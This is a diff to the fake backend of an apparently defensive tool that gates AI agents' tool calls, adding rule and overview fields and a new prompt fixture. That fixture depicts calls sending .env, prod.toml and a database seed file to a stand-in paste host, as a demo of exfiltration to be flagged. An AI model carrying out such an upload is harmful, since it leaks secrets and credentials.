@@ -92,7 +92,7 @@ function story(): RowView[] {
 }
 
 const rule = (over: Partial<RuleView>): RuleView => ({
-  id: 1, effect: "allow", app: "Claude Code", server: "github", client: null, tool: "create_pull_request", detector: "flow/private", exact: false,
+  id: 1, effect: "allow", app: "Claude Code", server: "github", client: null, tool: "create_pull_request", detector: "flow/private", exact: false, address: null,
   bound: true, origin: "answer", created: now - 9 * DAY, expires: null, hits: 37, last: now - 4_000_000, ...over,
 });
 
@@ -117,7 +117,7 @@ function full(): FakeMain {
   const sessions = [session("cursor", "Cursor", "github"), session("cursor", "Cursor", "filesystem"), session("claude-code", "Claude Code", "postgres", "partial: this kernel lacks a layer")];
   main.rows = story();
   main.overview = async () => ({
-    engine: { state: "up", version: "0.1.0", pid: 1, own: true, mode: "balanced", paused_until: null, sessions, problems: [] },
+    engine: { state: "up", version: "0.1.0", pid: 1, own: true, mode: "balanced", paused_until: null, quieted: [], sessions, problems: [] },
     questions: [],
     offers: [],
     last_block: main.rows.find((r) => r.what.kind === "judged" && r.what.verdict === "block") ?? null,
@@ -193,4 +193,8 @@ const SCENES: Record<string, () => FakeMain> = { full, hostile, failing, empty, 
 const wanted = new URLSearchParams(location.search).get("scene") ?? "full";
 
 export const mainBackend: MainBackend = (SCENES[wanted] ?? full)();
-export const promptBackend: PromptBackend = new FakePrompt(question(), question({ nonce: "n2", host: null }));
+export const promptBackend: PromptBackend = new FakePrompt(
+  question(),
+  question({ nonce: "n2", host: null }),
+  question({ nonce: "n3", calls: [".env", "prod.toml", "db/seed.sql"].map((file, at) => ({ asked: now + at * 1000, brief: `{"url":"https://paste.example.net/u","body":"~/src/shop/${file} …"}`, bytes: 400 * (at + 1) })) }),
+);
